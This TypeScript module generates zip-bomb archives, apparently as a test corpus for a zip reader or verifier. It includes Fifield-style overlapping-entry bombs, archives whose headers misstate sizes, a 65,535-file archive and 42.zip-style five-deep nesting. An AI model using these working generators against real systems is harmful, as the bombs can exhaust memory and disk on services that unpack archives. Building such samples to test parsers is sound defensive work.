import { crc32, deflateRawSync } from "node:zlib";
import { forgeZip, type ForgedEntry } from "../hostile-zip.ts";
import { deflatedZeros, storedBlock } from "./deflate-streams.ts";
import { localOnly, manyEmptyFiles } from "./pieces.ts";
import type { Construct, VariantClass } from "./variant.ts";

const MEBIBYTE = 1024 * 1024;

/** D. Fifield, A better zip bomb (WOOT 2019): every directory entry points to the one local record. */
function fullOverlap(files: number, kernelBytes: number): Buffer {
  const kernel = deflatedZeros(kernelBytes);
  const both = {
    compressedSize: kernel.data.byteLength,
    size: kernel.sizeBytes,
    crc32: sumOfZeros(kernel.sizeBytes),
  };
  const first: ForgedEntry = { name: nameOf(0), method: 8, data: kernel.data, both };
  const rest = Array.from({ length: files - 1 }, (_, place): ForgedEntry => ({
    name: nameOf(place + 1),
    method: 8,
    data: NOTHING,
    both,
    central: { offset: 0 },
    leaveOut: "local",
  }));
  return forgeZip([first, ...rest]);
}

const NOTHING = Buffer.alloc(0);

function nameOf(place: number): string {
  return `t/${place.toString(36).padStart(4, "0")}`;
}

function sumOfZeros(sizeBytes: number): number {
  return crc32(Buffer.alloc(sizeBytes));
}

/** The same paper: each file quotes the local header of the next one in a stored block and shares the rest with it. */
function quotedOverlap(files: number, kernelBytes: number): Buffer {
  const kernel = deflatedZeros(kernelBytes);
  const zeros = Buffer.alloc(kernel.sizeBytes);
  const entries: ForgedEntry[] = [];
  const body: Buffer[] = [kernel.data];
  const quoted: Buffer[] = [];
  let [compressedSize, size] = [kernel.data.byteLength, kernel.sizeBytes];
  for (let place = files - 1; place >= 0; place -= 1) {
    const sum = crc32(zeros, crc32(Buffer.concat(quoted)));
    const both = { compressedSize, size, crc32: sum };
    const entry = {
      name: nameOf(place),
      method: 8,
      data: NOTHING,
      both,
      central: { offset: place * QUOTE_BYTES },
    } as const;
    entries.unshift({ ...entry, leaveOut: "local" });
    const header = localOnly(forgeZip([entry]));
    // The head of the block that quotes this header belongs to the file before it.
    body.unshift(place === 0 ? header : storedBlock(header, false));
    quoted.unshift(header);
    compressedSize += QUOTE_BYTES;
    size += header.byteLength;
  }
  return forgeZip(entries, { beforeCentral: Buffer.concat(body) });
}

/** The head of a stored block and the local header in it. */
const QUOTE_BYTES = 5 + 30 + nameOf(0).length;

const LAYERS = 5;
const COPIES = 16;

/** As 42.zip: sixteen zips in each of sixteen zips, five times, around a file of zeros. */
function nestedZips(name: (place: number) => string, changes: Partial<ForgedEntry>): Buffer {
  const kernel = deflatedZeros(64 * MEBIBYTE);
  const sum = crc32(Buffer.alloc(kernel.sizeBytes));
  let zip: Buffer = forgeZip([
    { name: "t/0", method: 8, data: kernel.data, both: { size: kernel.sizeBytes, crc32: sum } },
  ]);
  for (let layer = 0; layer < LAYERS; layer += 1) {
    const data = deflateRawSync(zip, { level: 9 });
    const content = zip;
    zip = forgeZip(
      Array.from({ length: COPIES }, (_, place) => ({
        name: name(place),
        content,
        data,
        method: 8,
        ...changes,
      })),
    );
  }
  return zip;
}

const overlapping: Construct = {
  name: "files that share their data",
  readings: ["22 KB", "1 GB"],
  *zips() {
    yield ["full overlap (Fifield), 22 KB for 1 GB", fullOverlap(55, 19 * MEBIBYTE)];
    yield ["quoted overlap (Fifield), 24 KB for 1 GB", quotedOverlap(55, 19 * MEBIBYTE)];
    yield ["full overlap, 10,000 files", fullOverlap(10_000, MEBIBYTE)];
  },
};

const claims: Construct = {
  name: "more than a limit allows",
  readings: ["what the headers say", "what fits into memory"],
  *zips() {
    const kernel = deflatedZeros(22 * MEBIBYTE);
    yield [
      "22 KB that claim to be 1 GB",
      forgeZip([{ name: "t/a", method: 8, data: kernel.data, both: { size: 1024 * MEBIBYTE } }]),
    ];
    const large = deflatedZeros(1025 * MEBIBYTE);
    yield [
      "1 MB for one file of 1,025 MiB",
      forgeZip([{ name: "t/a", method: 8, data: large.data, both: { size: large.sizeBytes } }]),
    ];
    const part = deflatedZeros(1000 * MEBIBYTE);
    const parts = ["t/a", "t/b", "t/c", "t/d", "t/e"].map((name): ForgedEntry => ({
      name,
      method: 8,
      data: part.data,
      both: { size: part.sizeBytes },
    }));
    yield ["5 MB for five files of 1,000 MiB", forgeZip(parts)];
    yield [
      "22 KB for 22 MB behind a size of 1 byte",
      forgeZip([{ name: "t/a", method: 8, data: kernel.data, both: { size: 1 } }]),
    ];
    yield ["65,535 files", manyEmptyFiles(65_535)];
  },
};

const nestedOfOthers: Construct = {
  name: "zips in zips, five deep, as 42.zip",
  kind: "foreign",
  readings: ["sixteen small files", "the same: 70 TB only for a reader that opens what it finds"],
  *zips() {
    yield [
      "as 42.zip is made",
      nestedZips((place) => `lib ${place.toString(16)}.zip`, { central: { madeBy: 0x14, external: 0x20 } }),
    ];
  },
};

const nestedInProfile: Construct = {
  name: "zips in zips, five deep, in the form of the profile",
  kind: "sound",
  readings: ["sixteen small files", "the same: verifying never opens an archive in the zip"],
  *zips() {
    yield ["sixteen zips", nestedZips((place) => `t/lib${place.toString(16)}.zip`, {})];
  },
};

export const bombClass: VariantClass = {
  id: "bomb",
  title: "bombs",
  isBomb: true,
  constructs: [overlapping, claims, nestedOfOthers, nestedInProfile],
};
